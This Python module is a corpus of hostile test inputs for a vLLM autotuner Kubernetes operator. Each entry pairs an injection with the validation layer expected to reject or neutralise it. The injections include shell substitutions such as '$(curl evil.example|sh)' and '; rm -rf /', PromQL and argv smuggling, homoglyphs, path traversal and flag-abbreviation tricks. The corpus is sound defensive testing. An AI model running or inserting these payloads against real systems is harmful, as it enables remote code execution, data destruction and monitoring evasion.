"""Hostile VLLMDeployments and VLLMTuningPolicies, as data, with where each must be stopped.

tests/unit/api/test_invalid.py holds the ordinary mistakes (a zero, a missing field). This corpus
holds what an attacker or a careless generator would send: shell and PromQL metacharacters,
control characters, Unicode look-alikes, enormous values, wrong JSON types, and extraArgs that
try to take a tuned knob back from the operator.

Layers, in the order a request meets them:
  schema    the CRD's OpenAPI schema rejects it (message fragment from the API server's wording)
  cel       a CEL rule of the CRD rejects it (its message)
  pydantic  only the operator's models can reject it (JSON cannot carry it, e.g. NaN from YAML)
  condition admitted, but the operator refuses it with a condition and renders nothing
  inert     admitted and used, but harmless: it reaches the pod verbatim as one argv entry

Every schema/cel/pydantic item is also checked one layer further in: the operator, given the
object as if admission had been bypassed, must refuse it with a condition and apply nothing.

`hole` marks a gap that is known and not closed yet (the test is a strict xfail, so closing the
gap makes it fail until the marker goes): see docs/security.md, "Open findings".
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import Any, Literal

from vllm_autotuner.api.deployment import EXTRA_ARG_NOT_OWNED

Layer = Literal["schema", "cel", "pydantic", "condition", "inert"]
Kind = Literal["VLLMDeployment", "VLLMTuningPolicy"]

DELETE = object()

# Base objects: small and valid, so each item differs by exactly its hostile change.
DEPLOYMENT: dict[str, Any] = {
    "apiVersion": "vllm.autotuner.io/v1alpha1",
    "kind": "VLLMDeployment",
    "metadata": {"name": "llama", "namespace": "team-a", "uid": "uid-1", "generation": 1},
    "spec": {
        "model": "meta-llama/Llama-3.1-8B-Instruct",
        "gpu": {"count": 1, "product": "H100"},
        "tuning": {"mode": "Auto", "policyRef": "default"},
    },
}
POLICY: dict[str, Any] = {
    "apiVersion": "vllm.autotuner.io/v1alpha1",
    "kind": "VLLMTuningPolicy",
    "metadata": {"name": "default", "generation": 1},
    "spec": {
        "slo": {
            "ttft": {"percentile": 95, "thresholdMs": 500},
            "itl": {"percentile": 95, "thresholdMs": 50},
        },
        "rollout": {"minInterval": "15m", "verifyWindow": "10m"},
        "evaluationWindow": "5m",
    },
}

PATTERN = "does not match"
TOO_LONG = "is too long"
OWNED = EXTRA_ARG_NOT_OWNED.message
NEAR_MISS_ARGS = (
    "--max-logprobs=5",
    "--max-loras=2",
    "--max-seq-len-to-capture=8192",
    "--max-num-queued-reqs=64",
    "--enforce-eager",
    "--trust-remote-code",
    "--disable-log-requests",
    "--enable-chunked-prefill",
    "--speculative-config",
    '{"method": "ngram", "num_speculative_tokens": 3}',
    "--compilation-config.level=3",
    "--kv-transfer-config={}",
    "--hf-config-path=/models/cfg",
    "--config-format=hf",
    "--model-impl=vllm",
    "--model-loader-extra-config={}",
    "--models-dir=/x",
    "--portable",
    "--max-model-lens",
    "--seed=1",
    "-O3",
)
"""Accepted: none of these is a prefix of an owned flag or of "config" (they are longer, or
leave the owned name early), so argparse can never read one as an owned flag."""


@dataclass(frozen=True)
class Hostile:
    id: str
    kind: Kind
    changes: tuple[tuple[str, Any], ...]
    layer: Layer
    fragment: str
    hole: str | None = None
    lax: bool = False  # schema rejects; the model coerces it to the value it spells (harmless)

    @property
    def base(self) -> dict[str, Any]:
        return DEPLOYMENT if self.kind == "VLLMDeployment" else POLICY


def _d(
    id: str, path: str, value: Any, layer: Layer, fragment: str, hole: str | None = None
) -> Hostile:
    return Hostile(id, "VLLMDeployment", ((path, value),), layer, fragment, hole)


def _p(
    id: str, path: str, value: Any, layer: Layer, fragment: str, hole: str | None = None
) -> Hostile:
    return Hostile(id, "VLLMTuningPolicy", ((path, value),), layer, fragment, hole)


CORPUS: tuple[Hostile, ...] = (
    # ---- the model name: it becomes an argv entry and a label value compared with PromQL data
    _d("model-promql-injection", "spec.model", 'x"} or vector(1) or {a="', "schema", PATTERN),
    _d("model-regex-alternation", "spec.model", "llama|.*", "schema", PATTERN),
    _d("model-shell-substitution", "spec.model", "$(curl evil.example|sh)", "schema", PATTERN),
    _d("model-backticks", "spec.model", "`id`", "schema", PATTERN),
    _d("model-semicolon", "spec.model", "org/m;reboot", "schema", PATTERN),
    _d("model-braces", "spec.model", "org/{m}", "schema", PATTERN),
    _d("model-backslash", "spec.model", "org\\m", "schema", PATTERN),
    _d("model-nul", "spec.model", "org/m\x00--max-num-seqs=1", "schema", PATTERN),
    _d("model-newline-arg", "spec.model", "org/m\n--max-num-seqs=1", "schema", PATTERN),
    _d("model-leading-dash", "spec.model", "--max-num-seqs=1", "schema", PATTERN),
    _d("model-rtl-override", "spec.model", "org/\u202egnp.m", "schema", PATTERN),
    _d("model-fullwidth", "spec.model", "\uff4d\uff45\uff54\uff41/llama", "schema", PATTERN),
    _d("model-huge", "spec.model", "m" * 100_000, "schema", TOO_LONG),
    _d("model-number", "spec.model", 12345, "schema", "is not of type 'string'"),
    _d("model-list", "spec.model", ["a", "b"], "schema", "is not of type 'string'"),
    _d("model-object", "spec.model", {"$ne": ""}, "schema", "is not of type 'string'"),
    _d("model-null", "spec.model", None, "schema", "is not of type 'string'"),
    _d("model-url-metachars", "spec.model", "s3://b/k%2F@v+1=2,x~y:z", "inert", ""),
    # ---- servedModelName: the label value the PromQL answers are filtered on
    _d("served-quote", "spec.servedModelName", 'm"}', "schema", PATTERN),
    _d("served-regex", "spec.servedModelName", ".*", "schema", PATTERN),
    _d("served-pipe", "spec.servedModelName", "a|b", "schema", PATTERN),
    _d("served-unicode", "spec.servedModelName", "mod\u00e8le", "schema", PATTERN),
    _d("served-empty", "spec.servedModelName", "", "schema", PATTERN),
    _d("served-huge", "spec.servedModelName", "a" * 254, "schema", TOO_LONG),
    # ---- extraArgs: argv entries, never a shell; owned flags stay the operator's
    _d("arg-knob-eq", "spec.engine", {"extraArgs": ["--max-num-seqs=4096"]}, "cel", OWNED),
    _d("arg-knob-split", "spec.engine", {"extraArgs": ["--max-num-seqs", "9"]}, "cel", OWNED),
    _d("arg-knob-underscore", "spec.engine", {"extraArgs": ["--max_num_seqs=1"]}, "cel", OWNED),
    _d(
        "arg-gmu-underscore",
        "spec.engine",
        {"extraArgs": ["--gpu_memory_utilization=0.99"]},
        "cel",
        OWNED,
    ),
    _d("arg-mnbt", "spec.engine", {"extraArgs": ["--max-num-batched-tokens=1"]}, "cel", OWNED),
    _d(
        "arg-scheduled",
        "spec.engine",
        {"extraArgs": ["--max-num-scheduled-tokens=1"]},
        "cel",
        OWNED,
    ),
    _d("arg-kv-memory", "spec.engine", {"extraArgs": ["--kv-cache-memory=80G"]}, "cel", OWNED),
    _d("arg-model", "spec.engine", {"extraArgs": ["--model=evil/model"]}, "cel", OWNED),
    _d("arg-host", "spec.engine", {"extraArgs": ["--host=0.0.0.0"]}, "cel", OWNED),
    # argparse's allow_abbrev: a prefix of a flag selects it (vLLM arg_utils.py), so every prefix of
    # an owned flag is refused, in every spelling vLLM's parser accepts
    _d("arg-abbrev-mns", "spec.engine", {"extraArgs": ["--max-num-seq=1"]}, "cel", OWNED),
    _d(
        "arg-abbrev-mns-underscore", "spec.engine", {"extraArgs": ["--max_num_seq=1"]}, "cel", OWNED
    ),
    _d("arg-abbrev-mns-split", "spec.engine", {"extraArgs": ["--max-num-seq", "1"]}, "cel", OWNED),
    _d("arg-abbrev-mnbt", "spec.engine", {"extraArgs": ["--max-num-b=1"]}, "cel", OWNED),
    _d("arg-abbrev-ambiguous", "spec.engine", {"extraArgs": ["--max-num=1"]}, "cel", OWNED),
    _d("arg-abbrev-gmu", "spec.engine", {"extraArgs": ["--gpu-memory-util=0.99"]}, "cel", OWNED),
    _d("arg-abbrev-gmu-split", "spec.engine", {"extraArgs": ["--gpu-mem", "0.99"]}, "cel", OWNED),
    _d("arg-abbrev-kv-memory", "spec.engine", {"extraArgs": ["--kv-cache-mem=80G"]}, "cel", OWNED),
    _d("arg-abbrev-tp", "spec.engine", {"extraArgs": ["--tensor-parallel=8"]}, "cel", OWNED),
    _d("arg-abbrev-served", "spec.engine", {"extraArgs": ["--served=x"]}, "cel", OWNED),
    _d("arg-abbrev-model", "spec.engine", {"extraArgs": ["--mod", "evil/model"]}, "cel", OWNED),
    _d("arg-abbrev-no-prefix", "spec.engine", {"extraArgs": ["--no-enable-prefix"]}, "cel", OWNED),
    _d("arg-dotted-knob", "spec.engine", {"extraArgs": ["--max-num-seqs.x=1"]}, "cel", OWNED),
    _d("arg-tp-eq", "spec.engine", {"extraArgs": ["-tp=8"]}, "cel", OWNED),
    _d("arg-tp-glued", "spec.engine", {"extraArgs": ["-tp8"]}, "cel", OWNED),
    _d("arg-tp-abbrev", "spec.engine", {"extraArgs": ["-t", "8"]}, "cel", OWNED),
    # --config FILE: the YAML file's keys become flags, so it could set any owned one
    _d("arg-config-split", "spec.engine", {"extraArgs": ["--config", "x.yaml"]}, "cel", OWNED),
    _d("arg-config-eq", "spec.engine", {"extraArgs": ["--config=x.yaml"]}, "cel", OWNED),
    _d("arg-config-abbrev", "spec.engine", {"extraArgs": ["--conf=x.yaml"]}, "cel", OWNED),
    _d("arg-nul", "spec.engine", {"extraArgs": ["--x\x00--max-num-seqs=1"]}, "schema", PATTERN),
    _d("arg-cr", "spec.engine", {"extraArgs": ["--x\r--max-num-seqs=1"]}, "schema", PATTERN),
    _d("arg-huge", "spec.engine", {"extraArgs": ["--x=" + "a" * 300]}, "schema", TOO_LONG),
    _d("arg-number", "spec.engine", {"extraArgs": [1]}, "schema", "is not of type 'string'"),
    _d("args-string", "spec.engine", {"extraArgs": "--x"}, "schema", "is not of type 'array'"),
    _d("arg-shell-semicolon", "spec.engine", {"extraArgs": ["--x=1; rm -rf /"]}, "inert", ""),
    _d("arg-shell-subst", "spec.engine", {"extraArgs": ["$(curl evil.example|sh)"]}, "inert", ""),
    _d("arg-shell-backticks", "spec.engine", {"extraArgs": ["`id` && echo"]}, "inert", ""),
    # flags that share a stem with an owned one but abbreviate none of them (nor --config)
    _d(
        "arg-near-misses",
        "spec.engine",
        {"extraArgs": list(NEAR_MISS_ARGS)},
        "inert",
        "",
    ),
    # ---- numbers: wrong types, negative, huge, not-a-number
    Hostile(
        "replicas-string",
        "VLLMDeployment",
        (("spec.replicas", "3"),),
        "schema",
        "is not of type 'integer'",
        lax=True,
    ),
    _d("replicas-float", "spec.replicas", 1.5, "schema", "is not of type 'integer'"),
    _d("replicas-negative", "spec.replicas", -1, "schema", "less than the minimum"),
    _d("replicas-huge", "spec.replicas", 10**12, "schema", "greater than the maximum"),
    Hostile(
        "replicas-bool",
        "VLLMDeployment",
        (("spec.replicas", True),),
        "schema",
        "is not of type 'integer'",
        lax=True,
    ),
    _d("gpu-count-2e63", "spec.gpu", {"count": 2**63}, "schema", "greater than the maximum"),
    _d("mns-negative", "spec.knobs", {"maxNumSeqs": -5}, "schema", "less than the minimum"),
    Hostile(
        "gmu-string",
        "VLLMDeployment",
        (("spec.knobs", {"gpuMemoryUtilization": "0.9"}),),
        "schema",
        "of type",
        lax=True,
    ),
    _d("gmu-nan", "spec.knobs", {"gpuMemoryUtilization": math.nan}, "pydantic", "less than"),
    _d("gmu-inf", "spec.knobs", {"gpuMemoryUtilization": math.inf}, "pydantic", "less than"),
    _d("shm-inf", "spec.pod", {"shmSizeGi": math.inf}, "pydantic", "less than"),
    _d("memory-nan", "spec.gpu", {"memoryGiB": math.nan}, "pydantic", "less than"),
    _d("max-model-len-huge", "spec.engine", {"maxModelLen": 2**40}, "schema", "maximum"),
    # ---- names and references
    _d("policy-ref-path", "spec.tuning", {"policyRef": "../default"}, "schema", PATTERN),
    _d("policy-ref-upper", "spec.tuning", {"policyRef": "Default"}, "schema", PATTERN),
    _d("image-space", "spec.image", "vllm:1 --privileged", "schema", PATTERN),
    _d("image-huge", "spec.image", "i" * 600, "schema", TOO_LONG),
    _d("sa-name-hostile", "spec.pod", {"serviceAccountName": "a;b"}, "schema", PATTERN),
    _d(
        "pull-secret-unicode", "spec.imagePullSecrets", [{"name": "s\u0435cret"}], "schema", PATTERN
    ),
    _d("label-value-huge", "spec.pod", {"labels": {"a": "v" * 64}}, "schema", TOO_LONG),
    _d("gpu-product-quote", "spec.gpu", {"count": 1, "product": 'H100"'}, "schema", PATTERN),
    _d("mode-unicode", "spec.tuning", {"mode": "Aut\u043e"}, "schema", "is not one of"),
    _d("unknown-top-field", "spec.privileged", True, "schema", "Additional properties"),
    # ---- policies (cluster-scoped: fewer authors, still validated)
    _p(
        "threshold-negative",
        "spec.slo",
        {"itl": {"percentile": 95, "thresholdMs": -1}},
        "schema",
        "minimum",
    ),
    _p(
        "threshold-huge",
        "spec.slo",
        {"itl": {"percentile": 95, "thresholdMs": 1e300}},
        "schema",
        "maximum",
    ),
    _p(
        "threshold-string",
        "spec.slo",
        {"itl": {"percentile": 95, "thresholdMs": "50"}},
        "schema",
        "of type",
    ),
    _p(
        "percentile-over-100",
        "spec.slo",
        {"itl": {"percentile": 1000, "thresholdMs": 50}},
        "schema",
        "maximum",
    ),
    _p("window-shell", "spec.evaluationWindow", "5m; rm -rf /", "schema", PATTERN),
    _p("window-negative", "spec.evaluationWindow", "-5m", "schema", PATTERN),
    _p(
        "interval-huge",
        "spec.rollout",
        {"minInterval": "9" * 40 + "h"},
        "condition",
        "minInterval",
    ),
    _p(
        "verify-window-huge",
        "spec.rollout",
        {"verifyWindow": "100000000h"},
        "condition",
        "verifyWindow",
    ),
    _p(
        "bounds-inverted",
        "spec.bounds",
        {"maxNumSeqs": {"min": 512, "max": 8}},
        "cel",
        "min must be <= max",
    ),
    _p(
        "window-time-injection",
        "spec.rollout",
        {"maintenanceWindows": [{"start": "01:00; x", "end": "02:00"}]},
        "schema",
        PATTERN,
    ),
    _p(
        "window-tz-path",
        "spec.rollout",
        {"maintenanceWindows": [{"start": "01:00", "end": "02:00", "timezone": "../../etc"}]},
        "schema",
        PATTERN,
    ),
    _p(
        "window-tz-unknown",
        "spec.rollout",
        {"maintenanceWindows": [{"start": "01:00", "end": "02:00", "timezone": "Mars/Olympus"}]},
        "condition",
        "timezone",
    ),
    _p(
        "window-tz-absolute",
        "spec.rollout",
        {"maintenanceWindows": [{"start": "01:00", "end": "02:00", "timezone": "/etc/passwd"}]},
        "condition",
        "timezone",
    ),
    _p("modes-hostile", "spec.allowedModes", ["Auto", "Root"], "schema", "is not one of"),
    _p("policy-unknown-field", "spec.exec", "sh", "schema", "Additional properties"),
)
